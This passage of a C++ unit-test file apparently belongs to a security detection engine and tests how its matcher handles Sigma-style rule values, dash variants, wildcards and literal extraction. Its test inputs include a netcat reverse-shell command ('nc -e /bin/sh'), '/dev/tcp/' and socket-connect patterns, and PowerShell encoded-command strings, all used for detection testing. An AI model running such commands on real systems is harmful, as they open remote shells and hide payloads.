    for (std::string dash : {"\xE2\x80\x93", "\xE2\x80\x94", "\xE2\x80\x95"}) {
        EXPECT_TRUE(on(m, "nc " + dash + "e /bin/sh")) << "en dash, em dash, horizontal bar";
    }
    EXPECT_FALSE(on(m, "nc e /bin/sh"));
    EXPECT_FALSE(on(m, "nc +e /bin/sh"));
    EXPECT_EQ(m.literals().size(), 5u);

    // Only a dash that starts an option takes the variants: not inside a word.
    MatchSpec word = spec(Op::kContains, {"x-ray -v"});
    word.windash = true;
    auto w = compiled(word);
    EXPECT_TRUE(on(w, "x-ray /v"));
    EXPECT_FALSE(on(w, "x/ray -v"));
    EXPECT_EQ(w.literals().size(), 5u);

    // A '/' that starts an option also takes the variants.
    MatchSpec slash = spec(Op::kEquals, {"/c"});
    slash.windash = true;
    EXPECT_TRUE(on(compiled(slash), "-c"));

    // With wildcards and case folding together, as Sigma rules use it.
    MatchSpec sig = caseless(sigma(spec(Op::kContains, {" -EncodedCommand *"})));
    sig.windash = true;
    auto enc = compiled(sig);
    EXPECT_TRUE(on(enc, "pwsh /encodedcommand SQBFAFgA"));
    EXPECT_FALSE(on(enc, "pwsh /encodedcommand"));

    MatchSpec many = spec(Op::kContains, {"-a -b -c -d -e"});
    many.windash = true;
    EXPECT_NE(compileError(many).find("variants"), std::string::npos);
    many.values = {"-a -b -c -d"};
    EXPECT_EQ(compiled(many).literals().size(), 625u);
}

TEST(Matcher, Literals) {
    using L = Matcher::Literal;
    EXPECT_EQ(compiled(caseless(spec(Op::kContains, {"/Dev/TCP/", "nc"}))).literals(),
              (std::vector<L>{{"/dev/tcp/", true, false}, {"nc", true, false}}));
    EXPECT_EQ(compiled(spec(Op::kStartsWith, {"/tmp/", "/tmp/"})).literals(),
              (std::vector<L>{{"/tmp/", false, false}}));
    EXPECT_EQ(compiled(sigma(spec(Op::kEquals, {"/usr/*/python?.*"}))).literals(),
              (std::vector<L>{{"/python", false, false}}));
    EXPECT_EQ(compiled(caseless(sigma(spec(Op::kContains, {"Socket*Connect("})))).literals(),
              (std::vector<L>{{"connect(", true, false}}));
    EXPECT_EQ(compiled(sigma(spec(Op::kEquals, {R"(a\*b*c)"}))).literals(),
              (std::vector<L>{{"a*b", false, false}}));
    EXPECT_EQ(compiled(caseless(spec(Op::kRegex, {"^/tmp/.*\\.sh$"}))).literals(),
              (std::vector<L>{{"^/tmp/.*\\.sh$", true, true}}));

    // Values are needed literally even when the test is negated; the caller decides.
    EXPECT_EQ(compiled(negated(spec(Op::kEquals, {"x"}))).literals(),
              (std::vector<L>{{"x", false, false}}));

    // Exact values held in the set come out sorted.
    std::vector<std::string> many = {"j", "i", "h", "g", "f", "e", "d", "c", "b", "a"};
    std::vector<L> sorted;
    for (char c = 'a'; c <= 'j'; ++c) sorted.push_back({std::string(1, c), false, false});
    EXPECT_EQ(compiled(spec(Op::kEquals, many)).literals(), sorted);

    // No necessary literal: empty.
    EXPECT_TRUE(compiled(sigma(spec(Op::kEquals, {"x", "*"}))).literals().empty());
    EXPECT_TRUE(compiled(sigma(spec(Op::kEquals, {"??"}))).literals().empty());
    EXPECT_TRUE(compiled(spec(Op::kEquals, {"x", ""})).literals().empty());
    EXPECT_TRUE(compiled(spec(Op::kContains, {""})).literals().empty());
    EXPECT_TRUE(compiled(spec(Op::kGreater, {"1"})).literals().empty());
    EXPECT_TRUE(compiled(spec(Op::kCidr, {"10.0.0.0/8"})).literals().empty());
    EXPECT_TRUE(compiled(spec(Op::kIsNull)).literals().empty());
    MatchSpec other = spec(Op::kContains);
    other.other_field = "exe";
    EXPECT_TRUE(compiled(other).literals().empty());
}

TEST(Matcher, SpecErrors) {
    for (Op op : {Op::kEquals, Op::kContains, Op::kStartsWith, Op::kEndsWith, Op::kRegex, Op::kLess,
                  Op::kCidr}) {
        const std::string error = compileError(spec(op));
        EXPECT_NE(error.find("needs at least one value"), std::string::npos) << error;
    }
    for (Op op : {Op::kRegex, Op::kLess, Op::kCidr, Op::kIsNull}) {
        MatchSpec s = spec(op, {"1"});
        s.windash = true;
        EXPECT_NE(compileError(s).find("apply to equals, contains"), std::string::npos);
    }
    // Flags that mean nothing for an operator are accepted and ignored.
    MatchSpec s = caseless(sigma(spec(Op::kCidr, {"10.0.0.0/8"})));
    EXPECT_TRUE(on(compiled(s), "10.0.0.1"));
    EXPECT_EQ(compiled(negated(spec(Op::kIsNull))).op(), Op::kIsNull);
    EXPECT_TRUE(compiled(negated(spec(Op::kIsNull))).negated());
}

}  // namespace
}  // namespace vigil::hub
